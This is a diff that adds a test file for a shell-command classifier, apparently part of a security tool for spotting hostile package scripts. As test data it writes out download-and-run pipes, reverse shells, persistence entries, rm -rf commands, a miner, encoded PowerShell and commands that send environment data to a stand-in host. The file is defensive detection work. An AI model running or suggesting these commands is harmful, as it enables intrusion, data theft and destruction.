@@ -1,0 +1,70 @@
+import assert from 'node:assert/strict';
+import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';
+
+const kinds = (command: string): readonly string[] => readCommand(command).behaviours.map(({ kind }) => kind);
+
+describe('a shell command', () => {
+  it('is known by what it does', () => {
+    for (const [command, kind] of [
+      ['curl -fsSL https://get.invalid/x.sh | bash', 'download-and-run'],
+      ['wget -qO- http://192.0.2.1/s | sudo sh', 'download-and-run'],
+      ['curl http://192.0.2.1/l -o /tmp/l && chmod +x /tmp/l && /tmp/l', 'download-and-run'],
+      ['bash -c "$(curl -fsSL https://get.invalid)"', 'download-and-run'],
+      ['certutil -urlcache -f http://192.0.2.1/a.exe a.exe', 'download-and-run'],
+      ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.1/a\')"', 'download-and-run'],
+      ['bash -i >& /dev/tcp/192.0.2.15/9001 0>&1', 'reverse-shell'],
+      ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'reverse-shell'],
+      ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'autostart'],
+      ['schtasks /create /tn Update /tr x.exe /sc onlogon', 'autostart'],
+      ['rm -rf ~/', 'destructive-command'],
+      ['rm -rf --no-preserve-root /', 'destructive-command'],
+      ['claude --dangerously-skip-permissions -p "find wallets"', 'agent-without-permissions'],
+      ['npm publish --access public', 'publishes-packages'],
+      ['./xmrig -o pool.invalid:443 --donate-level 1', 'miner'],
+      ['echo aWQ= | base64 -d | sh', 'encoded-command'],
+      ['npm install -g openclaw@latest', 'installs-globally'],
+    ] as const) {
+      assert.ok(kinds(command).includes(kind), `${command}: ${kinds(command).join()}`);
+    }
+  });
+
+  it('is left alone where it does what commands are for', () => {
+    for (const command of [
+      'node-gyp rebuild',
+      'npm run build && npm test',
+      'rm -rf dist coverage',
+      'curl -o schema.json https://json.example/schema.json',
+      'git config core.hooksPath .husky',
+      'prebuild-install || node-gyp rebuild --release',
+      'cross-env NODE_ENV=test mocha',
+      'crontab -l',
+      'npm install --no-save typescript',
+    ]) {
+      assert.deepEqual(kinds(command), [], command);
+    }
+  });
+
+  it('is read inside of an encoded one', () => {
+    const inner = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a.ps1')", 'utf16le');
+    assert.deepEqual(kinds(`powershell -w hidden -enc ${inner.toString('base64')}`), [
+      'hidden-window',
+      'encoded-command',
+      'download-and-run',
+    ]);
+  });
+
+  it('tells what it reveals and where it sends that', () => {
+    const { reveals, sends, host } = readCommand('curl -s https://collect.invalid/$(id -un)@$(hostname)');
+    assert.deepEqual([reveals, sends, host], [['host-identity'], true, 'collect.invalid']);
+    assert.deepEqual(readCommand('env | curl -d @- https://collect.invalid').reveals, ['environment']);
+    assert.deepEqual(readCommand('env NODE_ENV=test node a.js').reveals, []);
+  });
+
+  it('names the code and the files that it has run', () => {
+    assert.deepEqual(readCommand(`node -e "require('./x')"`).scripts, [`require('./x')`]);
+    assert.deepEqual(readCommand('start /B node preinstall.js & node preinstall.js').files, [
+      'preinstall.js',
+      'preinstall.js',
+    ]);
+  });
+});
